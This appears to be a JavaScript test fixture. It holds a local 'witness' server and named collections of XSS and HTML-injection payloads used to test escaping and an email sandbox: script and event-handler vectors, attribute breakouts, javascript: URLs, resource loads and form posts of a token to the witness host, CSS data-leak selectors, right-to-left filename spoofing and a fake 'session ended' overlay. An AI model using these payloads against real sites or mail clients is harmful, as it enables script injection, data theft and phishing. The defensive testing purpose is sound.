// Hostile inputs, and a witness server that records if any of them works.
import { createServer } from "node:http";

/** A server of another origin, which must not receive even a connection. */
export async function startWitness() {
  const seen = [];
  const server = createServer((request, response) => {
    seen.push(`${request.method} ${request.url}`);
    response.end("gotcha");
  });
  server.on("connection", () => seen.push("a connection"));
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    seen,
    stop: () => new Promise((resolve) => server.close(resolve)).finally(server.closeAllConnections()),
  };
}

const run = (name) => `window.pwned='${name}';alert('${name}')`;

/** Texts that attack a page without escaping, by name. */
export function texts(witness) {
  return {
    harmless: "Hello",
    script: `<script>${run("script")}</script>`,
    "script from elsewhere": `<script src="${witness}/script.js"></script>`,
    "event handler": `<img src=x onerror="${run("event handler")}">`,
    "event handler without quotes": `<svg/onload=${run("svg")}>`,
    "event handler in an animation": `<svg><animate onbegin="${run("animate")}" attributeName=x dur=1s></svg>`,
    "open details": `<details open ontoggle="${run("details")}">x</details>`,
    "end of an attribute": `" autofocus onfocus="${run("double quote")}" x="`,
    "end of an attribute in single quotes": `' autofocus onfocus='${run("single quote")}' x='`,
    "end of an attribute without quotes": `x onmouseover=${run("no quotes")} `,
    "closing tags": `</textarea></title></style></script></template></select></form></li></ol></main></div><h1 onclick="${run("closing")}">x</h1>`,
    comment: `--><script>${run("comment")}</script><!--`,
    cdata: `]]><script>${run("cdata")}</script><![CDATA[`,
    "javascript address": `javascript:${run("javascript address")}`,
    "javascript address in disguise": `\u0001 jAvA\tscript\n:${run("disguise")}`,
    "data address": `data:text/html,<script>${run("data address")}</script>`,
    "address without a scheme": `//${new URL(witness).host}/x`,
    image: `<img src="${witness}/image.png">`,
    frame: `<iframe src="${witness}/frame" srcdoc="<script>parent.pwned=1</script>"></iframe>`,
    object: `<object data="${witness}/o"></object><embed src="${witness}/e">`,
    form: `<form action="${witness}/form" id="filter"><button autofocus>Send</button></form>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${witness}/refresh">`,
    base: `<base href="${witness}/" target="_top">`,
    style: `<style>@import url("${witness}/import.css"); * { background: url("${witness}/background") }</style>`,
    "style attribute": `<b style="position:fixed;inset:0;background:url(${witness}/b)">x</b>`,
    "hypermedia attributes": `<div hx-get="${witness}/hx" hx-trigger="load" hx-on:click="${run("hx-on")}" hx-on::load="${run("hx-on load")}">x</div>`,
    "hypermedia of the page": `<div data-hx-post="/_sandbox/ui/controls/faults/clear" hx-trigger="load" hx-swap-oob="true" id="page">x</div>`,
    "hypermedia partial": `<hx-partial hx-target="#page"><script>${run("partial")}</script></hx-partial><template hx type="partial"><img src=x onerror=${run("template")}></template>`,
    "ids of the page": `<div id="live"></div><a id="notice" name="help"></a><img name="getElementById">`,
    template: `{{ 7*7 }} {% if true %} \${alert(1)} #{7*7} <%= 7*7 %> [[constructor.constructor('alert(1)')()]]`,
    entity: `&lt;script&gt;${run("entity")}&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;`,
    "right to left": "invoice \u202egpj.exe \u2066\u2067x\u2069 \u202d",
    invisible: "a\u200b\u200c\u200d\ufeff\u00ad\u2028\u2029b",
    "marks on marks": `Z${"\u0351\u0352\u0353".repeat(200)}`,
    nothing: "a\u0000b\u0000<script>\u0000alert(1)</script>",
    control: "a\u0007\u001b[31m\u0008\u007f\u0085b",
    "half a character": "\ud83d x \udc00",
    "very long word": "W".repeat(5000),
    long: `<b>${"lorem ipsum ".repeat(5461)}`,
  };
}

/** Email HTML that tries to run scripts, load, send or navigate. Its links and buttons may be clicked. */
export function mails(witness) {
  return {
    script: `<script>top.pwned=parent.pwned=window.pwned=1;alert(1)</script><script src="${witness}/s"></script><p>x</p>`,
    handlers: `<body onload="parent.pwned=1"><img src=x onerror="parent.pwned=1"><svg onload="parent.pwned=1"></svg>`,
    "javascript link": `<a href="javascript:parent.pwned=1;alert(1)">click</a>`,
    "link in the frame": `<a href="${witness}/self">click</a>`,
    "link out of the frame": `<a href="${witness}/top" target="_top">click</a>`,
    "link to the parent": `<a href="${witness}/parent" target="_parent">click</a>`,
    "link to a new window": `<a href="${witness}/blank" target="_blank" rel="opener">click</a>`,
    "link with a ping": `<a href="#x" ping="${witness}/ping">click</a>`,
    "link to the page itself": `<a href="/_sandbox/ui/controls" target="_top">click</a>`,
    "link to what it looks like": `<a href="/_sandbox/ui/controls">click</a>`,
    download: `<a href="${witness}/download" download>click</a>`,
    "link by base": `<base href="${witness}/" target="_top"><a href="x">click</a>`,
    form: `<form action="${witness}/form" method="post"><input name="token"><button>click</button></form>`,
    "form of the page": `<form action="/_sandbox/ui/controls/clock" method="post"><button name="speed" value="0">click</button></form>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${witness}/refresh"><p>x</p>`,
    "own policy": `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${witness}/i">`,
    frames: `<iframe src="${witness}/f"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe><object data="${witness}/o"></object><embed src="${witness}/e"><portal src="${witness}/p"></portal>`,
    images: `<img src="${witness}/i.png" srcset="${witness}/i2.png 2x"><picture><source srcset="${witness}/s.png"><img src="${witness}/p.png"></picture><video src="${witness}/v" poster="${witness}/poster" autoplay></video><audio src="${witness}/a" autoplay></audio><input type="image" src="${witness}/input"><table background="${witness}/t"><tr><td>x</table><svg><image href="${witness}/svg"/><use href="${witness}/use#x"/></svg>`,
    styles: `<style>@import url("${witness}/import.css"); @font-face { font-family: f; src: url("${witness}/font") } p { font-family: f; background: url("${witness}/background"); cursor: url("${witness}/cursor"), auto; list-style-image: url("${witness}/list") } input[value^=a] { background: url("${witness}/guess") }</style><p style="background-image:url(${witness}/inline)">x</p><input value="abc">`,
    links: `<link rel="stylesheet" href="${witness}/style.css"><link rel="icon" href="${witness}/icon"><link rel="preload" as="image" href="${witness}/preload"><link rel="prefetch" href="${witness}/prefetch"><link rel="modulepreload" href="${witness}/module"><link rel="manifest" href="${witness}/manifest"><p>x</p>`,
    preconnect: `<link rel="preconnect" href="${witness}"><link rel="dns-prefetch" href="${witness}"><p>x</p>`,
    "other names": `<html><body id="page" hx-get="${witness}/hx" hx-trigger="load"><div id="live">x</div>`,
    data: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='${witness}/inner'/></svg>"><p>x</p>`,
    "above all": `<div style="position:fixed;inset:0;z-index:99999999;width:5000px;height:5000px;background:red">Your session has ended</div>`,
  };
}
